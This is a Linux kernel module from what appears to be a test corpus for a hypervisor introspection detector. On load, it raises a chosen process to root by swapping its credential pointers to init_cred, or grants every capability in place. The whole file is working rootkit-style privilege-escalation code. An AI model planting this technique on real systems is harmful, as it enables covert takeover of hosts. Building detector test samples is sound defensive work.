// SPDX-License-Identifier: GPL-2.0
/* Attack on task `pid`'s credentials without commit_creds():
 *   mode=0 (default): point its cred and real_cred at the kernel's init_cred (full root and
 *                     every capability); the classic "cred pointer swap". init_cred is found
 *                     through kallsyms (attack_common.h); references are taken so the task's
 *                     exit drops them cleanly. The old cred is leaked. Not undone.
 *   mode=1:           give its live cred every capability in place (ids untouched). Not undone.
 */
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/pid.h>
#include <linux/cred.h>
#include <linux/rcupdate.h>
#include "attack_common.h"

static int pid;
module_param(pid, int, 0444);
static int mode;
module_param(mode, int, 0444);

static int __init attack_init(void)
{
	struct task_struct *t;
	struct cred *c;
	const struct cred *root = (const struct cred *)hvi_attack_lookup("init_cred");

	if (mode == 0 && !root)
		return -ENOENT;
	rcu_read_lock();
	t = pid ? pid_task(find_vpid(pid), PIDTYPE_PID) : current;
	if (!t) {
		rcu_read_unlock();
		return -ESRCH;
	}
	if (mode == 0) {
		get_cred(root);
		get_cred(root);
		rcu_assign_pointer(t->real_cred, root);
		rcu_assign_pointer(t->cred, root);
		pr_info("hvi-attack: pid %d (%s) now on init_cred\n", task_pid_nr(t), t->comm);
	} else {
		c = (struct cred *)rcu_dereference(t->real_cred);
		c->cap_effective = CAP_FULL_SET;
		c->cap_permitted = CAP_FULL_SET;
		pr_info("hvi-attack: pid %d (%s) given every capability\n", task_pid_nr(t),
			t->comm);
	}
	rcu_read_unlock();
	return 0;
}

static void __exit attack_exit(void)
{
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvi test corpus: cred pointer swap / in-place capability raise");
